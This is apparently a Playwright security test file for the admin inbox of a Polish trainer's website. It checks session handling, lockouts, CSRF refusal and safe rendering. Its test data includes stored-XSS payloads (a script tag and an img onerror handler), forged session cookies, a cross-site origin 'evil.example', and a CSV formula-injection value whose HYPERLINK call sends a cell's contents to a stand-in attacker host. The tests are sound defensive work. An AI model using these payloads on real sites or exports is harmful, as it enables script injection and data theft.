// The inbox against strangers: every route closed without a session, one
// answer for any wrong pair, a lockout after 5 failures, forged and expired
// sessions refused, no state change from another site, visitor text shown
// and exported as inert text, and no /admin at all until it is configured.
import { randomBytes } from "node:crypto";
import { expect, test } from "@playwright/test";
import { TEST_DATABASE_FILE } from "../../playwright.config";
import { parseCsv } from "../support/parse-csv";
import { adminRoutePaths, sessionKey, signIn, signInByRequest, SIGN_IN_PATH, withDatabase } from "./admin";
import { formTokens, ownServer, pastTheTimeTrap, site, TEST_ADMIN, TEST_SITE_URL, waitForHydration } from "./site";

const STATE_CHANGING = ["POST", "PUT", "PATCH", "DELETE"];
const WRONG_PAIR = "Nieprawidłowy e-mail lub hasło.";

function expectInboxHeaders(headers: Record<string, string>, what: string) {
  expect(headers["cache-control"], what).toBe("no-store");
  expect(headers["x-robots-tag"], what).toBe("noindex");
}

test("every inbox route, without a session, sends page views to the sign-in page and refuses the rest with 403", async ({ request }) => {
  const routes = adminRoutePaths();
  // The walk sees the whole table: the sign-in page, the inbox, the enquiry, both erasures, resend, export, sign-out, unknown addresses.
  expect(routes.length).toBeGreaterThanOrEqual(9);
  for (const { path, file } of routes) {
    const what = `${path} (${file})`;
    const view = await request.get(path, { maxRedirects: 0 });
    expectInboxHeaders(view.headers(), what);
    if (path === SIGN_IN_PATH) {
      expect(view.status(), what).toBe(200);
      continue;
    }
    expect(view.status(), what).toBe(302);
    expect(view.headers().location, what).toBe(SIGN_IN_PATH);
    for (const method of STATE_CHANGING) {
      // From the site's own origin: refused by requireAdmin, not by the Origin check.
      const change = await request.fetch(path, { method, headers: { Origin: TEST_SITE_URL }, form: { intent: "status", status: "spam" }, maxRedirects: 0 });
      expect(change.status(), `${method} ${what}`).toBe(403);
      expectInboxHeaders(change.headers(), `${method} ${what}`);
    }
  }
});

test("the inbox is kept out of search engines", async ({ page, request }) => {
  await page.goto(SIGN_IN_PATH);
  await expect(page.locator('meta[name="robots"]')).toHaveAttribute("content", "noindex");
  expect(await (await request.get("/robots.txt")).text()).toContain("Disallow: /admin");
  expect(await (await request.get("/sitemap.xml")).text()).not.toContain("/admin");
});

test("a wrong password or a wrong e-mail gets the same answer and no session", async ({ page, request }) => {
  // As a page without JavaScript posts it: what was typed comes back, but never the password.
  for (const [email, password] of [
    [TEST_ADMIN.email, "nie to hasło"],
    ["ktos.inny@example.com", TEST_ADMIN.password],
  ] as const) {
    const response = await request.post(SIGN_IN_PATH, { headers: { Origin: TEST_SITE_URL }, form: { email, password }, maxRedirects: 0 });
    expect(response.status()).toBe(400);
    const html = await response.text();
    expect(html).toContain(WRONG_PAIR);
    expect(html).toContain(`value="${email}"`);
    expect(html).not.toContain(password);
    expect(response.headers()["set-cookie"]).toBeUndefined();
  }

  // In the browser.
  await page.goto(SIGN_IN_PATH);
  await waitForHydration(page);
  await page.getByLabel("E-mail").fill(TEST_ADMIN.email);
  await page.getByLabel("Hasło").fill("Hasło testowe panelu 2024");
  await page.getByRole("button", { name: "Zaloguj się" }).click();
  await expect(page.getByRole("alert")).toHaveText(WRONG_PAIR);
  await expect(page.getByLabel("E-mail")).toHaveValue(TEST_ADMIN.email);
  expect((await page.context().cookies()).some((cookie) => cookie.name === "admin-session")).toBe(false);
});

test("a forged session cookie opens nothing", async ({ request }) => {
  const forged = [Buffer.from(JSON.stringify(randomBytes(32).toString("base64url"))).toString("base64"), "eyJhZG1pbiI6dHJ1ZX0=", "admin", ""];
  for (const value of forged) {
    const view = await request.get("/admin", { headers: { Cookie: `admin-session=${value}` }, maxRedirects: 0 });
    expect(view.status(), value).toBe(302);
    expect(view.headers().location).toBe(SIGN_IN_PATH);
    const change = await request.post("/admin/spam/usun", { headers: { Cookie: `admin-session=${value}`, Origin: TEST_SITE_URL }, maxRedirects: 0 });
    expect(change.status(), value).toBe(403);
  }
});

test("a session ends after 8 hours idle and 7 days after sign-in", async ({ request }) => {
  const open = async (cookie: string) => (await request.get("/admin", { headers: { Cookie: `admin-session=${cookie}` }, maxRedirects: 0 })).status();
  const hoursAgo = (hours: number) => new Date(Date.now() - hours * 3_600_000).toISOString();

  const idle = await signInByRequest(request);
  expect(await open(idle)).toBe(200);
  withDatabase(TEST_DATABASE_FILE, (db) => db.prepare("update admin_sessions set last_seen_at = ? where id_hash = ?").run(hoursAgo(8.1), sessionKey(idle)));
  expect(await open(idle)).toBe(302);

  const old = await signInByRequest(request);
  withDatabase(TEST_DATABASE_FILE, (db) =>
    db.prepare("update admin_sessions set created_at = ?, last_seen_at = ? where id_hash = ?").run(hoursAgo(7 * 24 + 0.1), hoursAgo(0.5), sessionKey(old)),
  );
  expect(await open(old)).toBe(302);
});

test("a request from another site changes nothing, even with the trainer's session", async ({ request }) => {
  const tokens = await pastTheTimeTrap(await formTokens(request));
  const name = `Ofiara CSRF ${Date.now()}`;
  expect(
    (
      await request.post("/kontakt", {
        form: { name, email: "csrf@example.com", message: "Proszę o kontakt w sprawie treningów.", ...tokens },
        maxRedirects: 0,
      })
    ).status(),
  ).toBe(303);
  const id = withDatabase(TEST_DATABASE_FILE, (db) => (db.prepare("select id from enquiries where name = ?").get(name) as { id: number }).id);

  const cookie = `admin-session=${await signInByRequest(request)}`;
  for (const origin of ["https://evil.example", "null", undefined]) {
    const headers: Record<string, string> = origin ? { Cookie: cookie, Origin: origin } : { Cookie: cookie };
    const changes = [
      request.post(`/admin/zapytania/${id}`, { headers, form: { intent: "status", status: "spam" }, maxRedirects: 0 }),
      request.post(`/admin/zapytania/${id}/usun`, { headers, maxRedirects: 0 }),
      request.post("/admin/wyloguj", { headers, maxRedirects: 0 }),
    ];
    for (const response of await Promise.all(changes)) expect(response.status(), `${response.url()} from ${origin}`).toBe(403);
  }
  expect(withDatabase(TEST_DATABASE_FILE, (db) => db.prepare("select status from enquiries where id = ?").get(id))).toEqual({ status: "new" });
  // The session survived the forged sign-out.
  expect((await request.get("/admin", { headers: { Cookie: cookie }, maxRedirects: 0 })).status()).toBe(200);
  // The same change from the site itself goes through.
  const own = await request.post(`/admin/zapytania/${id}`, {
    headers: { Cookie: cookie, Origin: TEST_SITE_URL },
    form: { intent: "status", status: "done" },
    maxRedirects: 0,
  });
  expect(own.status()).toBe(303);
});

test("a stored <script> and =HYPERLINK(…) are shown as text and exported inert", async ({ page, request }) => {
  const tokens = await pastTheTimeTrap(await formTokens(request));
  const name = `=HYPERLINK("http://zly.example/?d="&A1;"Kliknij ${Date.now()}")`;
  const message = `<script>window.__xss = 1</script><img src="x" onerror="window.__xss = 2"> @SUM(1+1) dzień dobry`;
  expect((await request.post("/kontakt", { form: { name, email: "xss@example.com", message, ...tokens }, maxRedirects: 0 })).status()).toBe(303);

  await signIn(page);
  await page.goto("/admin");
  const pageErrors: Error[] = [];
  page.on("pageerror", (error) => pageErrors.push(error));
  await page.getByRole("link", { name }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(name);
  await expect(page.getByText(message)).toBeVisible();
  expect(await page.locator("main img, main script").count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(pageErrors).toEqual([]);

  const csv = await page.request.get(`/admin/eksport.csv?q=${encodeURIComponent(name)}`);
  expect(csv.headers()["content-type"]).toBe("text/csv; charset=utf-8");
  const rows = parseCsv((await csv.text()).replace(/^\uFEFF/, ""));
  expect(rows).toHaveLength(2);
  expect(rows[1]![2]).toBe(`'${name}`);
  expect(rows[1]![7]).toBe(message);
});

test.describe("with the inbox off", () => {
  const server = ownServer({ ADMIN_PASSWORD_HASH: "" });

  test("every /admin address is the ordinary not-found page", async ({ page, request }) => {
    for (const { path } of adminRoutePaths()) {
      const view = await request.get(path, { maxRedirects: 0 });
      expect(view.status(), path).toBe(404);
      expect(await view.text(), path).toContain(site.pages.notFound.message);
      const change = await request.post(path, {
        headers: { Origin: server.url },
        form: { email: TEST_ADMIN.email, password: TEST_ADMIN.password },
        maxRedirects: 0,
      });
      expect(change.status(), `POST ${path}`).toBe(404);
      expect(change.headers()["set-cookie"], `POST ${path}`).toBeUndefined();
    }
    const response = await page.goto("/admin/logowanie");
    expect(response?.status()).toBe(404);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(site.pages.notFound.message);
    await expect(page.getByRole("banner")).toBeVisible();
    await expect(page.getByRole("contentinfo")).toBeVisible();
    await expect(page.getByLabel("Hasło")).toHaveCount(0);
  });
});
